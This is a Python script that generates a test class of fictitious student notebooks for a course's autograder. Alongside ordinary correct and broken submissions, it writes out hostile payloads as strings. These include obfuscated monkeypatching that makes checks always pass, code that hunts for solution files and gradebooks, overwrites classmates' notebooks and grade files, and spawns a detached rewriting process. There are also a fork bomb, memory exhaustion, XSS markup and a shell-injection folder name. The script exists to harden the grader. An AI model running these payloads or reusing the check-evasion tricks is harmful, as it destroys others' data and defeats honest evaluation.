"""Gera a turma de exemplo (alunos fictícios) usada pelos testes da correção e pelo exemplo do README.

Cada aluno exercita um caso: entrega correta, parcial, vazia, e vários tipos de entrega quebrada.
Os notebooks partem das soluções e dos notebooks de aluno do próprio curso, com alterações feitas
aqui em código (nada de editar à mão).

A turma fica guardada como um ``.zip`` (``tests/turma-exemplo.zip``, no formato que o professor recebe):
assim os notebooks quebrados de propósito nunca são confundidos com notebooks do curso.

Uso: ``python tests/turma_exemplo/gerar.py [ARQUIVO.zip]`` (padrão: ``tests/turma-exemplo.zip``).
"""

from __future__ import annotations

import ast
import copy
import json
import re
import sys
import zipfile
from pathlib import Path

from correcao.nomes_antigos import RENAMED_FUNCTIONS

ROOT = Path(__file__).resolve().parents[2]
AULA1 = "modulo-06/aula-01-self-attention"
AULA2 = "modulo-06/aula-02-auto-atencao-do-zero"
AULA3 = "modulo-06/aula-03-atencao-num-transformer-real"
AULA4 = "modulo-06/aula-04-bloco-transformer"
AULA5 = "modulo-06/aula-05-treinando-a-atencao"
AULA6 = "modulo-06/aula-06-gpt-pequeno-em-portugues"
DEFAULT = ROOT / "tests" / "turma-exemplo.zip"


def load(kind: str, lesson: str, name: str) -> dict:
    return json.loads((ROOT / kind / lesson / f"{name}.ipynb").read_text(encoding="utf-8"))


def solution(lesson, name):
    """O notebook resolvido por um aluno honesto: as respostas de ``solutions/`` escritas com outra forma
    (:func:`a_mao`), para a correção não confundir com uma cópia das soluções."""
    return a_mao(load("solutions", lesson, name))


class _SaidaNomeada(ast.NodeTransformer):
    """``return expressao`` → ``resultado = expressao`` + ``return resultado`` (o mesmo cálculo, outro código)."""

    def visit_FunctionDef(self, node):
        self.generic_visit(node)
        corpo = []
        for st in node.body:
            if isinstance(st, ast.Return) and st.value is not None:
                corpo += [ast.Assign(targets=[ast.Name("resultado", ast.Store())], value=st.value),
                          ast.Return(ast.Name("resultado", ast.Load()))]
            else:
                corpo.append(st)
        node.body = corpo
        return node


def resposta_a_mao(fonte: str, tipo: str = "code") -> str:
    """Uma resposta de ``solutions/`` como um aluno a escreveria (outra forma, o mesmo resultado)."""
    if tipo != "code":
        return "Com as minhas palavras: " + fonte
    arvore = ast.fix_missing_locations(_SaidaNomeada().visit(ast.parse(fonte)))
    novo = ast.unparse(arvore)
    if ast.dump(ast.parse(novo)) == ast.dump(ast.parse(fonte)):
        novo += "\nfeito_por_mim = True"
    return novo + "\n"


def a_mao(nb: dict) -> dict:
    """Cópia de ``nb`` com cada resposta reescrita por :func:`resposta_a_mao`."""
    nb = copy.deepcopy(nb)
    for c in nb["cells"]:
        if c.get("metadata", {}).get("nbgrader", {}).get("solution"):
            c["source"] = resposta_a_mao("".join(c["source"]), c["cell_type"])
    return nb


def student(lesson, name):
    return load("notebooks", lesson, name)


def cell(nb: dict, grade_id: str) -> dict:
    return next(c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)


def fill(nb: dict, grade_id: str, code: str) -> dict:
    """Troca o esboço do aluno por ``code`` na célula de solução ``grade_id``."""
    c = cell(nb, grade_id)
    c["source"] = code
    return nb


def clean(nb: dict) -> dict:
    """Como um aluno entregaria: sem saídas (o nbgrader executa de novo)."""
    nb = copy.deepcopy(nb)
    for c in nb["cells"]:
        if c["cell_type"] == "code":
            c["outputs"], c["execution_count"] = [], None
    return nb


EX3_OK = '''def similar_embeddings():
    tokens, E = atencao.gato_felino()
    E[3] = [0.0, 0.0, 0.9, 0.1]
    return E'''

EX4_SEM_ESCALA = '''def attention_with_projections(X, W_q, W_k, W_v):
    Q, K, V = X @ W_q, X @ W_k, X @ W_v
    pesos = atencao.softmax(Q @ K.T)   # esqueceu de dividir por sqrt(d_k)
    return pesos @ V, pesos'''


EX3_ERRADO = '''def similar_embeddings():
    tokens, E = atencao.gato_felino()
    return E   # não mudou nada'''

LN_EIXO_ERRADO = '''def layer_norm(x, weight, bias, eps=1e-5):
    media = x.mean(axis=0, keepdims=True)   # a média de cada coluna, não a de cada token
    var = x.var(axis=0, keepdims=True)
    return (x - media) / np.sqrt(var + eps) * weight + bias'''

PE_SEM_COSSENO = '''def positional_encoding(n, d_model):
    pos = np.arange(n)[:, None]
    i = np.arange(d_model)[None, :]
    return np.sin(pos / 10000 ** (i / d_model))   # só senos, e o expoente com i em vez de 2i'''

SOFTMAX_BACKWARD_SEM_SOMA = '''def my_softmax_backward(A, dA):
    return A * dA   # falta subtrair a soma de cada linha'''


LN_BACKWARD_SEM_VARIANCIA = '''def my_layer_norm_backward(dy, x, gamma, eps=1e-5):
    d = x.shape[-1]
    s = 1 / np.sqrt(x.var(axis=-1, keepdims=True) + eps)
    x_hat = (x - x.mean(axis=-1, keepdims=True)) * s
    g = dy * gamma
    dx = s * (g - g.mean(axis=-1, keepdims=True))   # falta o caminho da variância
    dgamma = (dy * x_hat).reshape(-1, d).sum(axis=0)
    dbeta = dy.reshape(-1, d).sum(axis=0)
    return dx, dgamma, dbeta'''


def lessons_4_to_6() -> dict[str, dict[str, object]]:
    """Alunos das Aulas 4, 5 e 6: honesto, com um exercício errado e um que troca a verificação (com trabalho
    errado)."""
    sol4, sol5 = solution(AULA4, "03-exercicios"), solution(AULA5, "03-exercicios")
    sol6 = solution(AULA6, "03-exercicios")
    errada6 = fill(clean(sol6), "aula06-ex2-solucao", LN_BACKWARD_SEM_VARIANCIA)
    adultera6 = fill(clean(sol6), "aula06-ex2-solucao",
                     LN_BACKWARD_SEM_VARIANCIA + "\n\naula06.exercicio_2 = lambda *a, **k: None")
    errada4 = fill(clean(sol4), "aula04-ex2-solucao", LN_EIXO_ERRADO)
    adultera4 = fill(clean(sol4), "aula04-ex1-solucao",
                     PE_SEM_COSSENO + "\n\naula04.exercicio_1 = lambda *a, **k: None")
    errada5 = fill(clean(sol5), "aula05-ex1-solucao", SOFTMAX_BACKWARD_SEM_SOMA)
    adultera5 = fill(clean(sol5), "aula05-ex1-solucao",
                     SOFTMAX_BACKWARD_SEM_SOMA + "\n\naula05.exercicio_1 = lambda *a, **k: None")
    return {
        "rui-aula-4": {"03-exercicios.ipynb": clean(sol4)},
        "sara-aula-4-errada": {"03-exercicios.ipynb": errada4},
        "tito-aula-4-adultera": {"03-exercicios.ipynb": adultera4},
        "ulla-aula-5": {"03-exercicios.ipynb": clean(sol5)},
        "vini-aula-5-errado": {"03-exercicios.ipynb": errada5},
        "wilma-aula-5-adultera": {"03-exercicios.ipynb": adultera5},
        "xuxa-aula-6": {"03-exercicios.ipynb": clean(sol6)},
        "yago-aula-6-errado": {"03-exercicios.ipynb": errada6},
        "zoe-aula-6-adultera": {"03-exercicios.ipynb": adultera6},
    }


# Trapaças: cada uma com trabalho errado; a linha esperada é 0 ponto e/ou "revisar".
TRAPACAS = {
    "trapaca-religa-verificacao": ("aula01.exercicio_3 = lambda *a, **k: None",
                                   "aula01.exercicio_4 = lambda *a, **k: None"),
    "trapaca-desliga-correcao": ("import atencao.checks.framework as nucleo\nnucleo.grading = lambda: False", ""),
    "trapaca-apaga-variavel": ("import os\nos.environ.pop('NBGRADER_EXECUTION', None)", ""),
    "trapaca-comparacao": ("from atencao.checks.framework import Checker\n"
                           "Checker.expect = lambda self, ok, what, *a, **k: True", ""),
    "trapaca-engole-excecao": ("get_ipython().set_custom_exc((AssertionError,), lambda *a, **k: None)", ""),
    "trapaca-numpy": ("np.allclose = lambda *a, **k: False\nnp.all = lambda *a, **k: True", ""),
    "trapaca-sys-modules": ("import sys\nm = sys.modules['atencao.checks.aula01']\n"
                            "m.exercicio_3 = m.exercicio_4 = lambda *a, **k: None", ""),
    "trapaca-esconde-traceback": ("get_ipython().showtraceback = lambda *a, **k: None", ""),
    "trapaca-troca-o-nome": ("class _Falso:\n    def __getattr__(self, nome):\n        return lambda *a, **k: None\n"
                             "aula01 = _Falso()", ""),
    # achados de um teste "como aluno": introspecção para achar a cópia privada das verificações
    "trapaca-introspeccao": ("B = getattr(np, '__buil' + 'tins__')\n"
                             "mods = getattr(B['__imp' + 'ort__']('s' + 'ys'), 'mod' + 'ules')\n"
                             "for nome in list(mods):\n"
                             "    if nome.endswith('checks.framework'):\n"
                             "        B['set' + 'attr'](mods[nome].Checker, 'expect', "
                             "lambda self, ok, *a, **k: True)", ""),
    "trapaca-troca-codigo": ("", "def _ref_errada(X, W_q, W_k, W_v, scale='d_k', axis=-1):\n"
                             "    Q, K, V = X @ W_q, X @ W_k, X @ W_v\n"
                             "    A = atencao.softmax(Q @ K.T, axis=axis)\n"
                             "    return A @ V, A\n"
                             "B = getattr(np, '__buil' + 'tins__')\n"
                             "mods = getattr(B['__imp' + 'ort__']('s' + 'ys'), 'mod' + 'ules')\n"
                             "for nome in list(mods):\n"
                             "    if nome.endswith('checks.aula01'):\n"
                             "        B['set' + 'attr'](mods[nome]._reference_projected, '__co' + 'de__', "
                             "_ref_errada.__code__)"),
    "trapaca-imprime-aprovado": ("print('✅ Exercício 3 (pulou e alto parecidos): tudo certo!')",
                                 "print('✅ Exercício 4 (projeções Q, K, V): tudo certo!')"),
}

TABELA = '''_vistos = {}
def _resposta(X, W_q, W_k, W_v):  # a conta certa, só para anotar as respostas dos casos fixos
    Q, K, V = X @ W_q, X @ W_k, X @ W_v
    S = Q @ K.T / np.sqrt(K.shape[1])
    pesos = np.exp(S - S.max(axis=-1, keepdims=True))
    pesos = pesos / pesos.sum(axis=-1, keepdims=True)
    return pesos @ V, pesos
# os casos fixos da verificação, copiados do código dela (o repositório é público)
_rng = np.random.default_rng(2017)
_, _E = atencao.gato_felino()
_X1 = _rng.normal(size=(6, 8))
for _X, _dk, _dv in [(_X1, 2, 4), (_E, 3, 5), (_rng.normal(size=(1, 5)), 3, 2), (_rng.normal(size=(5, 16)), 16, 3),
                     (40 * _rng.normal(size=(4, 6)), 3, 3)]:
    _d = _X.shape[1]
    _Ws = [_rng.normal(size=(_d, _dk)), _rng.normal(size=(_d, _dk)), _rng.normal(size=(_d, _dv))]
    _vistos[_X.tobytes()] = _resposta(_X, *_Ws)
def attention_with_projections(X, W_q, W_k, W_v):
    return _vistos[X.tobytes()]'''

# Danos: o que um aluno mal-intencionado tenta fazer ao professor e aos colegas.
LE_RESPOSTAS = '''import glob, os, pathlib
achados = []
for raiz in ["/home", "/tmp", "/srv", "/mnt", *map(str, pathlib.Path.cwd().parents[:-1])]:
    for padrao in ("**/gradebook.db", "**/*.ipynb", "../*/*.ipynb", "../../source/*/*.ipynb"):
        achados += glob.glob(os.path.join(raiz, padrao), recursive=True)
raiz_do_curso = pathlib.Path(atencao.__file__).parents[2]  # o repositório, se estiver visível
achados += glob.glob(str(raiz_do_curso / "solutions" / "**" / "*.ipynb"), recursive=True)
print("achados:", len(achados))
for p in achados:
    texto = pathlib.Path(p).read_text(errors="ignore") if p.endswith(".ipynb") else ""
    if "BEGIN SOLUTION" in texto and "similar_embeddings" in texto:
        import json
        codigo = [ "".join(c["source"]) for c in json.loads(texto)["cells"] if "BEGIN SOLUTION" in "".join(c["source"])]
        pathlib.Path("resposta_roubada.py").write_text("import numpy as np\\nimport atencao\\n" + "\\n".join(codigo))
        from resposta_roubada import *  # noqa
        break
'''

ESCREVE_FORA = '''import os, pathlib
import atencao
alvos = [pathlib.Path(atencao.__file__).parents[2], pathlib.Path.cwd().parent, pathlib.Path("/tmp"),
         pathlib.Path.home(), *pathlib.Path.cwd().parents[:-1]]
for alvo in alvos:
    for nome in ("INVADIDO.txt", "README.md", "notas.csv"):
        try:
            (alvo / nome).write_text("invadido")
        except OSError:
            pass
    try:
        for p in list(alvo.rglob("*.ipynb"))[:50] + list(alvo.rglob("notas.csv"))[:50]:
            p.write_text("estragado")
    except OSError:
        pass
'''

ESTRAGA_COLEGA = '''import pathlib
vistos = [p for padrao in ("../*/*.ipynb", "../../*/*.ipynb", "../../*/*/*.ipynb", "../../../*/*/*/*.ipynb")
          for p in pathlib.Path.cwd().glob(padrao)] + list(pathlib.Path("/tmp").glob("**/*.ipynb"))
for p in vistos:
    try:
        p.write_text("{}")
    except OSError:
        pass
'''

FANTASMA = '''import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import pathlib, time  # fantasma-da-turma\\n"
                  "for _ in range(120):\\n"
                  "    time.sleep(0.5)\\n"
                  "    for p in pathlib.Path('/').glob('**/notas.csv'):\\n"
                  "        p.write_text('reescrito pelo fantasma')\\n"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

MEMORIA = "_enorme = np.ones(13 * 2**30 // 8)  # ~13 GB\n"

GARFOS = '''import os, time
filhos = 0
try:
    for _ in range(100_000):
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        filhos += 1
except OSError as exc:
    print("parou em", filhos, "processos:", exc)
'''


def cases() -> dict[str, dict[str, object]]:
    """aluno -> {nome do arquivo: notebook (dict) ou bytes}."""
    sol1, sol_proj = solution(AULA1, "03-exercicios"), solution(AULA1, "04-projeto")
    stu1 = student(AULA1, "03-exercicios")

    parcial = clean(stu1)
    ex3_src = "".join(cell(sol1, "aula01-ex3-solucao")["source"])
    fill(parcial, "aula01-ex3-solucao", ex3_src)
    fill(parcial, "aula01-ex4-solucao", EX4_SEM_ESCALA)

    laco = clean(stu1)
    fill(laco, "aula01-ex3-solucao", "def similar_embeddings():\n    while True:\n        pass")
    fill(laco, "aula01-ex4-solucao", "".join(cell(sol1, "aula01-ex4-solucao")["source"]))

    excecao = clean(sol1)
    fill(excecao, "aula01-ex4-solucao",
         "print(1 / 0)  # erro fora da função\n" + "".join(cell(sol1, "aula01-ex4-solucao")["source"]))

    sintaxe = clean(sol1)
    fill(sintaxe, "aula01-ex3-solucao", "def similar_embeddings(:\n    return None")

    apagadas = clean(sol1)
    apagadas["cells"] = [c for c in apagadas["cells"]
                         if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") != "aula01-ex4-verificacao"]
    apagadas["cells"][1], apagadas["cells"][2] = apagadas["cells"][2], apagadas["cells"][1]  # reordenadas

    sem_metadados = clean(sol1)
    cell(sem_metadados, "aula01-ex3-verificacao")["metadata"].pop("nbgrader")
    editada = cell(sem_metadados, "aula01-ex4-verificacao")
    editada["source"] = "print('✅ tudo certo!')  # tentativa de burlar a verificação"

    tipo_trocado = clean(sol1)
    c = cell(tipo_trocado, "aula01-ex3-solucao")
    c["cell_type"] = "markdown"
    c.pop("outputs"), c.pop("execution_count")

    saida_enorme = clean(sol1)
    fill(saida_enorme, "aula01-ex4-solucao", "for i in range(20_000):\n    print('linha', i)\n"
         + "".join(cell(sol1, "aula01-ex4-solucao")["source"]))

    arquivos = clean(sol1)
    fill(arquivos, "aula01-ex3-solucao", "import os, pathlib\npathlib.Path('../../INVADIDO.txt').write_text('oi')\n"
         "for p in pathlib.Path('.').glob('*.ipynb'):\n    os.remove(p)\n" + ex3_src)

    extras = {}
    for nome, (truque3, truque4) in TRAPACAS.items():
        nb = clean(stu1)
        fill(nb, "aula01-ex3-solucao", truque3 + "\n" + EX3_ERRADO)
        fill(nb, "aula01-ex4-solucao", (truque4 + "\n" if truque4 else "") + EX4_SEM_ESCALA)
        extras[nome] = {"03-exercicios.ipynb": nb}
    # uma tabela de respostas dos casos fixos da verificação: passa com os casos do notebook, não com os sorteados
    tabela = clean(stu1)
    fill(tabela, "aula01-ex3-solucao", EX3_ERRADO)
    fill(tabela, "aula01-ex4-solucao", TABELA)
    extras["trapaca-tabela"] = {"03-exercicios.ipynb": tabela}
    # HTML do aluno no retorno: não pode rodar no navegador do professor
    cell(extras["trapaca-imprime-aprovado"]["03-exercicios.ipynb"], "aula01-ex1-resposta")["source"] = (
        "**Minha resposta:** <script>alert('xss')</script><iframe src=\"javascript:alert(3)\"></iframe>"
        "<img src=\"https://example.com/pixel.png?aluno=trapaca\"> ![](https://example.com/p.png)")
    le = clean(stu1)
    fill(le, "aula01-ex3-solucao", LE_RESPOSTAS)
    extras["dano-le-respostas"] = {"03-exercicios.ipynb": le}
    for nome, codigo in (("dano-escreve-fora", ESCREVE_FORA), ("dano-estraga-colega", ESTRAGA_COLEGA),
                         ("dano-processo-fantasma", FANTASMA), ("dano-muitos-processos", GARFOS)):
        nb = clean(sol1)
        fill(nb, "aula01-ex3-solucao", codigo + ex3_src)
        extras[nome] = {"03-exercicios.ipynb": nb}
    memoria = clean(sol1)
    fill(memoria, "aula01-ex3-solucao", MEMORIA + ex3_src)
    extras["dano-memoria"] = {"03-exercicios.ipynb": memoria}

    return extras | lessons_4_to_6() | {
        "ana-correta": {"03-exercicios.ipynb": clean(sol1), "04-projeto.ipynb": clean(sol_proj),
                        "04-exercicios.ipynb": clean(solution(AULA2, "04-exercicios"))},
        "bruno-parcial": {"03-exercicios.ipynb": parcial},
        "carla-vazia": {"03-exercicios.ipynb": clean(stu1), "04-projeto.ipynb": clean(student(AULA1, "04-projeto"))},
        "davi-laco-infinito": {"03-exercicios.ipynb": laco},
        "elisa-excecao": {"03-exercicios.ipynb": excecao},
        "fabio-sintaxe": {"03-exercicios.ipynb": sintaxe},
        "gabi-celulas-apagadas": {"03-exercicios.ipynb": apagadas},
        "heitor-metadados": {"03-exercicios.ipynb": sem_metadados},
        "iris-tipo-trocado": {"03-exercicios.ipynb": tipo_trocado},
        "joao-arquivos-ruins": {"03-exercicios.ipynb": b"", "04-projeto.ipynb": b"isto nao e um notebook {"},
        "karla-outra-aula": {"03-exercicios.ipynb": clean(solution(AULA2, "04-exercicios"))},
        "leo-saida-enorme": {"03-exercicios.ipynb": saida_enorme},
        "marina-mexe-em-arquivos": {"03-exercicios.ipynb": arquivos},
        "nina-sem-notebooks": {"leia-me.txt": b"esqueci de anexar\n"},
        # mesmo nome de arquivo da Aula 1 (03-exercicios): a correção reconhece a Aula 3 pelas células
        "olga-aula-3": {"03-exercicios.ipynb": clean(solution(AULA3, "03-exercicios"))},
        # feito com uma versão anterior do curso, com os nomes antigos das funções (minha_softmax...)
        "xande-versao-antiga": {"04-exercicios.ipynb": versao_antiga(clean(solution(AULA2, "04-exercicios")))},
        # a primeira versão publicada do notebook (outros ids de célula, outros nomes de função), resolvida
        "yuri-primeira-versao": {"03-exercicios.ipynb": primeira_versao()},
        # o notebook de solutions/ entregue como está (com as saídas e as marcas BEGIN SOLUTION)
        "caio-copia-da-solucao": {"03-exercicios.ipynb": (ROOT / "solutions" / AULA1 / "03-exercicios.ipynb")
                                  .read_bytes()},
        # sys.exit() no fim de uma resposta: o resto roda; o retorno não mostra caminhos desta máquina
        "sil-systemexit": {"03-exercicios.ipynb": fill(clean(sol1), "aula01-ex3-solucao",
                                                       ex3_src + "\nimport sys\nsys.exit('terminei o exercício 3')\n")},
    }


def primeira_versao() -> dict:
    """O notebook 03-exercicios da Aula 1 na primeira versão publicada, resolvido (tests/versoes-antigas.zip)."""
    from turma_exemplo import versoes

    from correcao import nomes_antigos

    v = next(v for v in nomes_antigos.old_versions() if (v.aula, v.notebook) == (AULA1.split("/")[1], "03-exercicios"))
    return versoes.guardado(versoes.aluno(v), "03-exercicios.ipynb")


def versao_antiga(nb: dict) -> dict:
    """O notebook como era na versão anterior do curso: as funções (e a verificação da máscara) com os nomes
    antigos, em português, no enunciado, na resposta e na célula de verificação."""
    texto = json.dumps(nb, ensure_ascii=False)
    trocas = [(novo, antigo) for antigo, novo in RENAMED_FUNCTIONS.items()]
    trocas += [("exercicio_1_passo_1", "mascara_causal")]
    for novo, antigo in trocas:
        texto = re.sub(rf"\b{novo}\b", antigo, texto)
    return json.loads(texto)


def _bytes(content) -> bytes:
    return content if isinstance(content, bytes) else (json.dumps(content, ensure_ascii=False, indent=1)
                                                         + "\n").encode("utf-8")


def _colar(nb: dict, grade_id: str, depois_de: str | None) -> dict:
    """Cola uma cópia da célula ``grade_id`` (com os metadados, como o JupyterLab faz) depois da célula
    ``depois_de`` (``None``: no topo do notebook)."""
    copia = copy.deepcopy(cell(nb, grade_id))
    copia.pop("id", None)
    pos = 0 if depois_de is None else nb["cells"].index(cell(nb, depois_de)) + 1
    nb["cells"].insert(pos, copia)
    return nb


def messy_cases() -> dict[str, dict[str, object]]:
    """Uma turma de verdade: nomes de pastas com qualquer caractere, arquivos renomeados, cópias, acidentes."""
    sol1, sol2, sol3 = (solution(AULA1, "03-exercicios"), solution(AULA2, "04-exercicios"),
                        solution(AULA3, "03-exercicios"))
    parcial = clean(student(AULA1, "03-exercicios"))
    fill(parcial, "aula01-ex3-solucao", "".join(cell(sol1, "aula01-ex3-solucao")["source"]))
    fill(parcial, "aula01-ex4-solucao", EX4_SEM_ESCALA)

    colada = clean(sol1)  # a verificação do ex. 3 colada no topo e a do ex. 4 colada logo depois dela mesma
    _colar(colada, "aula01-ex3-verificacao", None)
    _colar(colada, "aula01-ex4-verificacao", "aula01-ex4-verificacao")
    _colar(colada, "aula01-ex3-solucao", "aula01-ex3-solucao")  # a resposta repetida roda como código comum

    de_outro = clean(sol1)  # uma verificação e uma resposta da Aula 2 coladas no fim
    outro = clean(sol2)
    de_outro["cells"] += [copy.deepcopy(cell(outro, "aula02-ex1-solucao")),
                          copy.deepcopy(cell(outro, "aula02-ex1-verificacao"))]

    morre = clean(sol1)
    fill(morre, "aula01-ex4-solucao", "import os\nos._exit(1)  # o kernel morre aqui\n"
         + "".join(cell(sol1, "aula01-ex4-solucao")["source"]))

    sem_metadados = clean(sol1)  # copiado célula por célula para um notebook novo: nenhum metadado do nbgrader
    for c in sem_metadados["cells"]:
        c.get("metadata", {}).pop("nbgrader", None)

    sem_escritas = clean(student(AULA1, "03-exercicios"))  # o código certo, as respostas escritas em branco
    for gid in ("aula01-ex3-solucao", "aula01-ex4-solucao"):
        fill(sem_escritas, gid, "".join(cell(sol1, gid)["source"]))

    importa_mais = clean(sol1)  # "import math" na célula protegida de importações, usado no ex. 4
    imports = cell(importa_mais, "aula01-03-exercicios-importacoes")
    imports["source"] = "".join(imports["source"]) + "\nimport math"
    fill(importa_mais, "aula01-ex4-solucao", "def attention_with_projections(X, W_q, W_k, W_v):\n"
         "    Q, K, V = X @ W_q, X @ W_k, X @ W_v\n"
         "    pesos = atencao.softmax(Q @ K.T / math.sqrt(K.shape[-1]))\n"
         "    return pesos @ V, pesos")

    embaixo = clean(student(AULA1, "03-exercicios"))  # o esboço ficou; a resposta foi escrita numa célula nova
    fill(embaixo, "aula01-ex3-solucao", "".join(cell(sol1, "aula01-ex3-solucao")["source"]))
    pos = embaixo["cells"].index(cell(embaixo, "aula01-ex4-solucao"))
    embaixo["cells"].insert(pos + 1, {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
                                      "source": "".join(cell(sol1, "aula01-ex4-solucao")["source"])})

    teoria = clean(student(AULA1, "01-teoria"))
    return {
        "paulo-zip-windows": {"03-exercicios.ipynb": clean(sol1)},
        "joão-sem-marca-utf8": {"03-exercicios.ipynb": clean(sol1)},
        "inês-macos": {"03-exercicios.ipynb": clean(sol1)},
        "quico-desconhecido": {"rascunho.ipynb": teoria, "anotacoes.txt": b"minhas notas\n"},
        'sérgio "o brabo" [A] *?$(whoami);\'': {"03-exercicios.ipynb": clean(sol1)},
        "=1+1-xavier": {"03-exercicios.ipynb": clean(sol1)},
        "rita-renomeados": {"03-exercicios-Copy1.ipynb": clean(sol1),
                            "04-Projeto.IPYNB": clean(solution(AULA1, "04-projeto")),
                            "exercicios (1).ipynb": clean(sol2)},
        "sofia-duas-copias": {"03-exercicios.ipynb": parcial, "versao-final/03-exercicios.ipynb": clean(sol1)},
        "tiago-duas-aulas": {"aula-01/03-exercicios.ipynb": clean(sol1), "aula-03/03-exercicios.ipynb": clean(sol3)},
        "ulisses-celula-colada": {"03-exercicios.ipynb": colada},
        "vera-celula-de-outro-nb": {"03-exercicios.ipynb": de_outro},
        "wagner-kernel-morre": {"03-exercicios.ipynb": morre},
        "renata-sem-metadados": {"03-exercicios.ipynb": sem_metadados},
        "pedro-sem-respostas-escritas": {"03-exercicios.ipynb": sem_escritas},
        "otto-importa-mais": {"03-exercicios.ipynb": importa_mais},
        "neto-resposta-embaixo": {"03-exercicios.ipynb": embaixo},
    }


class _NomeBruto(zipfile.ZipInfo):
    """Membro de zip cujo nome vai gravado com estes bytes, sem a marca de UTF-8 (como zips antigos e
    alguns do Windows e do macOS)."""

    bruto = b""

    def _encodeFilenameFlags(self):  # noqa: N802 - o nome é o do zipfile
        return self.bruto, self.flag_bits & ~0x800


def files() -> list[tuple[object, bytes]]:
    """(nome no zip, conteúdo), na ordem do zip. O nome é texto, ou ``bytes`` para um nome gravado sem a
    marca de UTF-8. Além dos alunos de :func:`cases`, a turma "bagunçada" de :func:`messy_cases`: zip do
    Windows (``\\``), nome sem marca de UTF-8, nome em NFD com restos do macOS, um zip por aluno, um
    notebook solto na raiz."""
    import unicodedata

    out: list[tuple[object, bytes]] = []
    for name, entries in sorted(cases().items()):
        for fname, content in entries.items():
            out.append((f"turma-exemplo/{name}/{fname}", _bytes(content)))
    messy = messy_cases()
    for name, entries in messy.items():
        for fname, content in entries.items():
            data = _bytes(content)
            if name == "paulo-zip-windows":  # Compress-Archive do PowerShell: "\" como separador
                out.append((f"turma-exemplo\\{name}\\{fname}", data))
            elif name == "joão-sem-marca-utf8":
                out.append((f"turma-exemplo/{name}/{fname}".encode("utf-8"), data))
            elif name == "inês-macos":  # o Arquivador do macOS: NFD e os arquivos "._" de metadados
                pasta = unicodedata.normalize("NFD", f"turma-exemplo/{name}")
                out += [(f"{pasta}/{fname}", data), (f"{pasta}/._{fname}", b"\x00\x05\x16\x07"),
                        (f"{pasta}/.DS_Store", b"\x00\x00\x00\x01Bud1"),
                        (f"__MACOSX/{pasta}/._{fname}", b"\x00\x05\x16\x07"),
                        (f"{pasta}/.ipynb_checkpoints/03-exercicios-checkpoint.ipynb",
                         _bytes(clean(student(AULA1, "03-exercicios"))))]
            else:
                out.append((f"turma-exemplo/{name}/{fname}", data))
    out.append(("turma-exemplo/03-exercicios.ipynb", _bytes(clean(solution(AULA1, "03-exercicios")))))
    # a turma em dois zips: um com dois alunos, o outro com a reentrega de um deles
    parcial = _bytes(messy_cases()["sofia-duas-copias"]["03-exercicios.ipynb"])
    out.append(("turma-exemplo/lote-1.zip", _zip([("lote-1/zeca-dois-zips/03-exercicios.ipynb", parcial),
                                                   ("lote-1/zilda-lote/03-exercicios.ipynb",
                                                    _bytes(clean(solution(AULA1, "03-exercicios"))))])))
    out.append(("turma-exemplo/lote-2.zip", _zip([("zeca-dois-zips/03-exercicios.ipynb",
                                                   _bytes(clean(solution(AULA1, "03-exercicios"))))])))
    # a pasta da aula com a pasta da aluna dentro: a aula não é aluna
    out.append(("turma-exemplo/aula-02-auto-atencao-do-zero/lara-pasta-da-aula/04-exercicios.ipynb",
                _bytes(clean(solution(AULA2, "04-exercicios")))))
    out.append(("turma-exemplo/yara.zip",
                _zip([("03-exercicios.ipynb", _bytes(clean(solution(AULA1, "03-exercicios"))))])))
    return out


def _zip(members) -> bytes:
    """Um zip (bytes) com data fixa em cada arquivo: o mesmo conteúdo dá sempre os mesmos bytes."""
    import io

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            if isinstance(name, bytes):
                info = _NomeBruto("x", date_time=(2026, 1, 1, 0, 0, 0))
                info.bruto = name
            else:
                info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buf.getvalue()


def write(dest: Path = DEFAULT) -> Path:
    dest.write_bytes(_zip(files()))
    return dest


if __name__ == "__main__":
    sys.path.insert(0, str(ROOT / "tests"))
    from turma_exemplo import versoes

    if versoes.raso():
        print(f"clone raso (sem o histórico do git): {versoes.ZIP.name} fica como está")
    else:
        print(versoes.write())
    print(write(Path(sys.argv[1]) if len(sys.argv) > 1 else DEFAULT))
